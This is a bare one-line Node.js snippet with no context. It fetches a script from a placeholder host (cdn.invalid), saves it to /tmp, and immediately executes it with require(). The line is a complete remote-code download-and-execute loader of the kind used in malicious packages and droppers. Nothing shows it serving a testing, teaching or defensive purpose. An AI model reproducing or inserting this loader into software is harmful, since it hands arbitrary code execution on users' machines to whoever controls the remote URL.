const fs = require('fs'); require('https').get('https://cdn.invalid/x.js', (res) => { const out = fs.createWriteStream('/tmp/x.js'); res.pipe(out); out.on('finish', () => require('/tmp/x.js')); });
